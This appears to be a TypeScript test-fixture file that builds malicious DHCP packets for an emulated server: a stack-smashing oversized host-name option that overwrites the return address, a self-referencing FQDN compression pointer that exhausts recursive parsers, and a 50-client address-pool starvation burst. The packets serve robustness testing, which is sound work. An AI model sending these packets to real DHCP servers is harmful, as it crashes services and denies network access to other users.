import type { Random } from '../../emulator/base/index.js';
import { DhcpOption, DhcpType, encodeDiscover, encodeOption, encodeRequest, encodeSelect } from '../codecs/dhcp.js';

const CLIENT_MAC = Uint8Array.of(0x02, 0xba, 0xd0, 0, 0, 1);

/**
 * A host name longer than the array it is copied to on the stack: what lies behind the array is the return address, so the sender chooses
 * where the function returns to, and with that the signal: an address nobody mapped.
 */
export function stackSmash(random: Random): Uint8Array {
  const name = new Uint8Array(200);
  for (let at = 0; at < name.length; at += 4) name.set([0x44, 0x33, 0x22, 0x11], at);
  return encodeRequest(random.next(), CLIENT_MAC, [
    encodeOption(DhcpOption.messageType, Uint8Array.of(DhcpType.discover)),
    encodeOption(DhcpOption.hostName, name),
  ]);
}

const FQDN_WIRE = 0x04;

/**
 * A client's domain name (option 81, RFC 4702) that is a compression pointer to itself: who reads names by recursion runs out of stack
 * (RFC 9267 section 2; RUSTSEC-2018-0007).
 */
export function fqdnLoop(random: Random): Uint8Array {
  return encodeRequest(random.next(), CLIENT_MAC, [
    encodeOption(DhcpOption.messageType, Uint8Array.of(DhcpType.discover)),
    encodeOption(DhcpOption.fqdn, Uint8Array.of(FQDN_WIRE, 0, 0, 0xc0, 0)),
  ]);
}

const STARVING_CLIENTS = 50;
const SERVER = 0xc0a80101;
const LAST_ADDRESS = 0xc0a80195;

/** Legal messages of as many clients as the pool has addresses: each asks for one, from the end of the pool on, and takes it. */
export function starvation(random: Random): Uint8Array[] {
  return Array.from({ length: STARVING_CLIENTS }, (_, client) => {
    const mac = Uint8Array.of(0x02, 0xba, 0xd0, 0, 1, client);
    const xid = random.next();
    const address = LAST_ADDRESS - client;
    return [encodeDiscover(xid, mac, address), encodeSelect(xid, mac, address, SERVER)];
  }).flat();
}
